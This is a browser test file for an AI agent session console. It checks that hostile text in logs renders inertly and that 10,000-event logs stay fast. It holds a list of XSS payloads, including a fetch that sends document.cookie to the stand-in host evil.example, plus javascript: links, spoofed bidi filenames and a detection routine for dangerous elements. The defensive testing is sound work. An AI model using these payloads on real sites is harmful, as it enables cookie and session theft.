import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";

import type { SessionEvent } from "../../src/domain/event.ts";
import { scriptTag } from "../../src/demo/model/script.ts";
import { toolCalls } from "../kit/people/fake-user.ts";
import { addSession, id, promptEvent, assistantEvent } from "../kit/clients/sessions-command.ts";
import { cards, entry, press, shownEventIds, startSession } from "../kit/browser/cards.ts";
import { openDesk, type Desk } from "../kit/browser/desk.ts";

/** Hostile logs and long logs: no text in them may run, and the page must stay fast. */

const [HOSTILE, LONG, DEEP, READ] = [id(1), id(2), id(3), id(4)];
const EVENTS = 10_000;
/** Twelve pages, four times as many as the page keeps. */
const READ_EVENTS = 2_400;

/** Code that sets a mark and sends a request if executed. */
const RUN = "window.harmed=true;fetch('https://evil.example/?'+document.cookie)";
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<style>@import url("https://evil.example/x.css")</style><meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `[click me](javascript:${RUN})`,
  `[and me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[me too](vbscript:x) <javascript:${RUN}> [j](java\tscript:alert(1)) [k](&#106;avascript:alert(1))`,
  `![picture](https://evil.example/pixel.png)`,
  `"><b onmouseover=${RUN}>`,
  "\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u0000\u0008",
  "invoice\u202Efdp.exe \u2066hidden\u2069 \u200b",
];
const ALL = PAYLOADS.join("\n\n");
const NESTED = Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- level ${String(depth)}`).join("\n");
const QUOTED = `${"> ".repeat(3_000)}deep ${"[".repeat(5_000)} ${"*a ".repeat(5_000)}`;
const LINE = "x".repeat(200_000);

const message = (type: string, content: object, parent?: string) =>
  ({
    type: "message",
    data: { message: { type, message: { content: [content] }, ...(parent && { parent_tool_use_id: parent }) } },
  }) as SessionEvent;

const ofTool = (name: string, input: object, output: string): SessionEvent[] => [
  message("assistant", { type: "tool_use", id: `toolu_${name}`, name, input }),
  message("user", { type: "tool_result", tool_use_id: `toolu_${name}`, content: output }),
];

/** Returns events of an agent in an agent, from event 2 on; each agent reports `steps` texts. */
const agentsWithin = (steps: number): SessionEvent[] => {
  const sends = (call: string, parent?: string) => {
    const input = { description: call, prompt: "Look." };
    return message("assistant", { type: "tool_use", id: call, name: "Agent", input }, parent);
  };
  const says = (words: string, parent: string) =>
    Array.from({ length: steps }, (_, at) =>
      message("assistant", { type: "text", text: `${words} ${String(at)}.` }, parent),
    );
  return [sends("outer"), ...says("Outer", "outer"), sends("inner", "outer"), ...says("Inner", "inner")];
};

const manySteps = (events: number): SessionEvent[] => {
  const words = (at: number) => assistantEvent(`Step ${String(at)}: **all** is well in \`file-${String(at)}.ts\`.`);
  return [promptEvent("Take many steps."), ...Array.from({ length: events - 1 }, (_, at) => words(at + 2))];
};

let desk: Desk;
beforeAll(async () => {
  desk = await openDesk({
    async seeded(node) {
      const bad = [ALL, NESTED, QUOTED, LINE, `\`\`\`\n${LINE}\n\`\`\``, `| ${"a | ".repeat(3_000)}`].map(
        assistantEvent,
      );
      // Names of properties that every JavaScript object has.
      const todos = ["constructor", "__proto__"].map((status) => ({ content: status, status }));
      const tools = [
        ...ofTool("TodoWrite", { todos }, "toString"),
        ...ofTool("Bash", { command: ALL }, `${ALL}${"0123456789 ".repeat(100_000)}`),
      ];
      const events = [promptEvent(ALL), ...bad, ...tools];
      await addSession(node, HOSTILE, { cwd: `/repo/<b onclick="${RUN}">`, events });
      await addSession(node, LONG, { events: manySteps(EVENTS) });
      await addSession(node, READ, { events: manySteps(READ_EVENTS) });
      await addSession(node, DEEP, {
        events: [promptEvent("Send agents."), ...agentsWithin(60), assistantEvent("All are back.")],
      });
    },
  });
});
afterEach(async (test) => desk.clear(test));
afterAll(async () => desk.close());

/** Returns effects of hostile text; [] if all text stayed text. */
async function effectsOfText(page: Page): Promise<string[]> {
  return page.evaluate<string[]>(`[
    ...(window.harmed === undefined ? [] : ["something ran"]),
    ...[...document.querySelectorAll("script, iframe, object, embed, img, style, base, meta[http-equiv], form[action]")]
      .filter((each) => each.closest("main")).map(({ outerHTML }) => outerHTML),
    ...[...document.querySelectorAll("main *")].flatMap((each) => [...each.attributes])
      .filter(({ name, value }) => /^on/.test(name) || (/^(href|src|action)$/.test(name) && !/^(https?:|#|mailto:)/.test(value)))
      .map(({ name, value }) => name + "=" + value),
  ]`);
}

it("the test notices the effects of hostile text", async () => {
  const { page } = await desk.open();
  await page.getByRole("heading", { level: 1 }).waitFor();
  expect(await effectsOfText(page)).toEqual([]);
  await page.evaluate(`{
    const link = document.createElement("a");
    link.href = "javascript:1";
    document.querySelector("main").append(link, document.createElement("img"));
    window.harmed = true;
  }`);
  expect(await effectsOfText(page)).toEqual(["something ran", "<img>", "href=javascript:1"]);
});

async function unfoldAll(page: Page): Promise<void> {
  await page.evaluate('document.querySelectorAll("main details").forEach((each) => { each.open = true; })');
}

describe("hostile text", () => {
  it("hostile text in a log stays text: nothing runs, nothing is fetched, and the page stays fast", async () => {
    const window = await desk.open({ hash: `#/sessions/${HOSTILE}?event=1` });
    const { page } = window;
    await page.getByText("level 0").first().waitFor();
    await unfoldAll(page);
    await page.getByText("<script>").first().waitFor();
    const show = page.getByRole("main").getByRole("button", { name: /^(Show all|Loading…)/ });
    expect(await show.count()).toBeGreaterThan(3);
    await expect
      .poll(async () => {
        await show
          .first()
          .click({ timeout: 1_000 })
          .catch(() => undefined);
        return show.count();
      })
      .toBe(0);
    await window.picture("hostile", false);
    expect(await effectsOfText(page)).toEqual([]);
    // Includes all links: none may be harmful.
    await page.getByText("click me").first().click();
    expect(page.url()).toContain("/console/#/");
    await page.getByRole("link", { name: "Approvals", exact: true }).click();
    await page.getByRole("heading", { name: "Approvals" }).waitFor({ timeout: 10_000 });
    await page.getByRole("link", { name: "Sessions", exact: true }).click();
    await page.getByRole("heading", { level: 1, name: "Sessions" }).waitFor();
    expect(await effectsOfText(page)).toEqual([]);
  });

  it("hostile text in requests, messages and live text stays text, and hidden characters are shown", async () => {
    const { page } = await desk.open();
    const cwd = desk.world.folder();
    const question = {
      question: `${PAYLOADS[1]!} Which?`,
      header: "<b>Q</b>",
      multiSelect: false,
      options: [
        { label: PAYLOADS[0]!, description: PAYLOADS[5]! },
        { label: "B", description: ALL },
      ],
    };
    const tools = [
      // Plain commands, because Claude Code itself refuses commands with control characters.
      { name: "Bash", input: { command: `echo ${PAYLOADS[0]!} ${PAYLOADS[1]!}`, description: ALL } },
      { name: "Write", input: { file_path: join(cwd, PAYLOADS[9]!), content: ALL } },
      { name: "AskUserQuestion", input: { questions: [question] } },
    ];
    await startSession(page, `${ALL} ${toolCalls(tools)}`, { cwd });
    const card = cards(page);
    for (const button of ["Deny…", "Deny…", "Decline…"]) {
      await card.getByRole("button", { name: button, exact: true }).waitFor();
      expect(await effectsOfText(page)).toEqual([]);
      if (button === "Deny…") await card.getByText(/202e/i).first().waitFor();
      await press(card, button);
      await press(card, button.replace("…", ""));
    }
    await entry(page, "Turn done").waitFor();
    await page.getByLabel("Prompt").fill(scriptTag([{ text: ALL }]));
    await page.getByRole("button", { name: "Send" }).click();
    await expect.poll(async () => entry(page, "Turn done").count()).toBe(2);
    await unfoldAll(page);
    expect(await effectsOfText(page)).toEqual([]);
    await page.getByRole("link", { name: "Approvals", exact: true }).click();
    await page.getByRole("heading", { name: "Recent decisions" }).waitFor();
    expect(await effectsOfText(page)).toEqual([]);
  });
});

describe("a long log", () => {
  /** Maximum number of elements, however far the user scrolls. */
  const MAX_NODES = 8_000;
  const nodes = async (page: Page) => page.evaluate<number>('document.querySelectorAll("*").length');
  const first = async (page: Page) => (await shownEventIds(page))[0] ?? 0;
  const last = async (page: Page) => (await shownEventIds(page)).at(-1) ?? 0;
  const where = async (page: Page, eventId: number) =>
    page.evaluate<number>(`document.querySelector('[data-event="${String(eventId)}"]').getBoundingClientRect().top`);

  it("a log of 10,000 events opens at its end, and jumps to its start", async () => {
    const { page } = await desk.open();
    await page.goto(`${desk.http.origin}/console/#/sessions/${LONG}`);
    // Far above the usual time, so that a slow machine causes no failure.
    await entry(page, `Step ${String(EVENTS)}:`).waitFor({ timeout: 20_000 });
    expect(await nodes(page)).toBeLessThan(MAX_NODES);
    expect(await where(page, EVENTS)).toBeLessThan(900);
    // Buttons to both ends appear once the reader leaves the end.
    await page.mouse.wheel(0, -300);
    await page.getByRole("button", { name: "To the start" }).click();
    await expect.poll(async () => first(page)).toBe(1);
    await expect.poll(async () => where(page, 1)).toBeGreaterThan(0);
    expect(await nodes(page)).toBeLessThan(MAX_NODES);
  });

  it("a log is read from its end to its start and back without growing the page", async () => {
    const { page } = await desk.open({ hash: `#/sessions/${READ}` });
    await entry(page, `Step ${String(READ_EVENTS)}:`).waitFor();
    let most = 0;
    for (let at = await first(page); at > 1; at = await first(page)) {
      const ids = await shownEventIds(page);
      expect(ids).toEqual(Array.from({ length: ids.length }, (_, place) => at + place));
      most = Math.max(most, await nodes(page));
      await page.evaluate("scrollTo(0, 0)");
      await expect.poll(async () => first(page)).toBeLessThan(at);
      // Text in view stays in place when older events are loaded.
      expect(await where(page, at)).toBeGreaterThan(-200);
      expect(await where(page, at)).toBeLessThan(900);
    }
    await page.getByText("Take many steps.").last().waitFor();
    for (let pages = 0; pages < 5; pages++) {
      const at = await last(page);
      await page.evaluate("scrollTo(0, document.documentElement.scrollHeight)");
      await expect.poll(async () => last(page)).toBeGreaterThan(at);
      most = Math.max(most, await nodes(page));
      const ids = await shownEventIds(page);
      expect(ids).toEqual(Array.from({ length: ids.length }, (_, place) => ids[0]! + place));
    }
    await page.getByRole("button", { name: /^(To the end|New activity)/ }).click();
    await entry(page, `Step ${String(READ_EVENTS)}:`).waitFor();
    most = Math.max(most, await nodes(page));
    expect(most).toBeLessThan(MAX_NODES);
  });

  it("a log opens at an event that the address names", async () => {
    const { page } = await desk.open({ hash: `#/sessions/${LONG}?event=5000` });
    await entry(page, "Step 5000:").waitFor();
    await expect.poll(async () => where(page, 5_000)).toBeGreaterThan(0);
    expect(await where(page, 5_000)).toBeLessThan(900);
  });

  it("a log opens around an event of a nested subagent, and moves to the next requested event", async () => {
    const { page } = await desk.open({ hash: `#/sessions/${DEEP}?event=100` });
    // Events: 1 prompt, 1 agent, 60 of its texts, 1 agent. The first text of the inner agent is event 64.
    await page.getByText("Inner 36.", { exact: true }).waitFor();
    await expect.poll(async () => where(page, 100)).toBeGreaterThan(0);
    expect(await where(page, 100)).toBeLessThan(900);
    expect(await page.evaluate("document.activeElement.dataset.event")).toBe("100");
    await page.goto(`${desk.http.origin}/console/#/sessions/${DEEP}?event=5`);
    await expect.poll(async () => page.evaluate("document.activeElement.dataset.event")).toBe("5");
    expect(await where(page, 5)).toBeGreaterThan(0);
    expect(await where(page, 5)).toBeLessThan(900);
    await page.getByText("Outer 2.", { exact: true }).waitFor();
  });
});
